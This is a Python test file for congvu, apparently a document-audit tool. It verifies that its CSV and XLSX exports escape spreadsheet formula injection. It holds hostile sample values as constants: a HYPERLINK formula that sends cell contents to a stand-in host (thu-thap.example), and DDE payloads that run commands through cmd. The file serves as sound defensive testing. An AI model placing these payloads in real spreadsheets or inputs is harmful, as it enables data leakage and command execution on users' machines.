"""No cell congvu writes can run as a formula (OWASP CSV injection), in every CSV and XLSX export.

A person's name or position, an inspector's reason and a document excerpt are all data someone
else wrote; `=HYPERLINK("http://…?"&A1)` in any of them must reach the spreadsheet as text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import sqlalchemy as sa
from openpyxl import Workbook, load_workbook
from reportkit import FrozenClock, document, finding

from congvu.crawl.report import report_csv
from congvu.crawl.run import CrawlOutcome
from congvu.model import DocumentResult, Finding
from congvu.output import get_reporter
from congvu.output.cells import csv_cell, is_formula_like
from congvu.register import directory_files
from congvu.register.evaluation import Sheet, SheetRow
from congvu.register.recording import record
from congvu.register.review import add_manual, decide, list_violations
from congvu.register.schema import people
from congvu.register.sheet_xlsx import write_sheet
from congvu.register.store import open_store
from congvu.register.tables import read_tables

LEAK = '=HYPERLINK("http://thu-thap.example/?d="&A1,"Xem chi tiết")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+84 905 123 456 gọi lại"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"


def _no_formula_in(book: Workbook) -> list[str]:
    """Every text cell; fails the test if any cell is a formula or a dangerous one lacks the prefix."""
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if is_formula_like(cell.value):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} not marked as text"
    return texts


def _raw_has_no_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_the_rule() -> None:
    for text in (LEAK, DDE, PLUS, AT, MINUS, TAB, "\r=1+1"):
        assert is_formula_like(text) and csv_cell(text) == "'" + text
    for text in ("Nguyễn Văn An", "-5", "+84905123456", "3.5", "vanphong@danang.gov.vn", ""):
        assert not is_formula_like(text) and csv_cell(text) == text


def test_scan_csv_output() -> None:
    f = Finding(
        address="nguyenvanan85@gmail.com", as_written="nguyenvanan85@gmail.com", cls="public",
        provider="Gmail", contact_point=True, obfuscated=False, rule="DOC-001",
        reason="DOC-001: public mailbox given as a contact point", page=1, line=3, excerpt=DDE,
    )  # fmt: skip
    result = DocumentResult("van-ban/=1+1.txt", "ok", findings=[f], verdict="violation")
    result.metadata.signer = AT
    out = io.StringIO()
    get_reporter("csv")([result], out)
    row = next(iter(csv.DictReader(io.StringIO(out.getvalue()))))
    assert row["excerpt"] == "'" + DDE and row["signer"] == "'" + AT and row["path"] == "van-ban/=1+1.txt"


def test_website_audit_csv_output() -> None:
    page = {
        "url": "https://hoaminh.danang.gov.vn/lien-he", "kind": "page", "status": "ok", "error": None,
        "verdict": "violation", "unit": "HM",
        "findings": [
            {"address": "hotro.hoaminh@gmail.com", "rule": "DOC-001", "excerpt": LEAK, "reason": MINUS}
        ],
    }  # fmt: skip
    out = io.StringIO()
    report_csv(CrawlOutcome(pages=[page]), out)
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert "'" + LEAK in cells and "'" + MINUS in cells and LEAK not in cells


def _store(url: str):  # type: ignore[no-untyped-def]
    """The example organisation (SQLite and PostgreSQL: `example_register`) with HM-03 renamed."""
    store = open_store(url, clock=FrozenClock())
    with store.begin() as conn:
        conn.execute(
            sa.update(people).where(people.c.person_id == "HM-03").values(full_name=LEAK, position=PLUS)
        )
    return store


def test_directory_export_csv_and_xlsx_and_back(tmp_path: Path, example_register: str) -> None:
    store = _store(example_register)
    csv_path, xlsx_path = tmp_path / "nhan-su.csv", tmp_path / "danh-ba.xlsx"
    with store.begin() as conn:
        directory_files.export(conn, csv_path)
        directory_files.export(conn, xlsx_path)
    with csv_path.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    an = next(r for r in rows if r["person_id"] == "HM-03")
    assert an["full_name"] == "'" + LEAK and an["position"] == "'" + PLUS
    texts = _no_formula_in(load_workbook(xlsx_path))
    assert LEAK in texts and PLUS in texts  # the text itself is unchanged in XLSX
    _raw_has_no_formula(xlsx_path.read_bytes())
    # read back (export, edit, re-import): the names are what they were, without the quote
    for path in (csv_path, xlsx_path):
        back = [r for t in read_tables(path) for r in t.rows if r.values.get("person_id") == "HM-03"]
        assert back[0].values["full_name"] == LEAK and back[0].values["position"] == PLUS
    store.dispose()


def test_evaluation_sheet_xlsx(tmp_path: Path) -> None:
    sheet = Sheet(
        unit="HM", unit_name="UBND phường Hòa Minh", parent_name="UBND quận Liên Chiểu", month="2014-06",
        scale="levels", cap="Hoàn thành khá nhiệm vụ",
        rows=[SheetRow(1, "HM-03", LEAK, PLUS, "Hoàn thành tốt nhiệm vụ", None, True, note=AT)],
    )  # fmt: skip
    path = tmp_path / "danh-gia-HM-2014-06.xlsx"
    write_sheet(sheet, path, prepared_by=DDE)
    texts = _no_formula_in(load_workbook(path))
    assert {LEAK, PLUS, AT, DDE} <= set(texts)
    _raw_has_no_formula(path.read_bytes())


def test_monthly_report_xlsx(example_register: str) -> None:
    from congvu.reports import build_monthly

    store = _store(example_register)
    hoa_minh = "UBND QUẬN LIÊN CHIỂU\nUBND PHƯỜNG HÒA MINH"
    doc = document(
        "15/UBND-VP",
        hoa_minh,
        "Nguyễn Văn An",
        "2014-06-20",
        [finding("nguyenvanan85@gmail.com", excerpt=DDE)],
    )
    record(store, [doc], "Thanh tra viên")
    add_manual(store, "HM-03", "2014-06", AT, "Thanh tra viên")
    with store.begin() as conn:
        ids = [int(v["id"]) for v in list_violations(conn)]
    for vid in ids:
        decide(store, vid, "confirm", "Đã xác minh với đơn vị", "Thanh tra viên")
    data = build_monthly(store, "2014-06", "xlsx")
    texts = _no_formula_in(load_workbook(io.BytesIO(data)))
    assert LEAK in texts and PLUS in texts  # the person's name and position, as text
    assert any(DDE in t for t in texts)  # the excerpt
    _raw_has_no_formula(data)
    store.dispose()
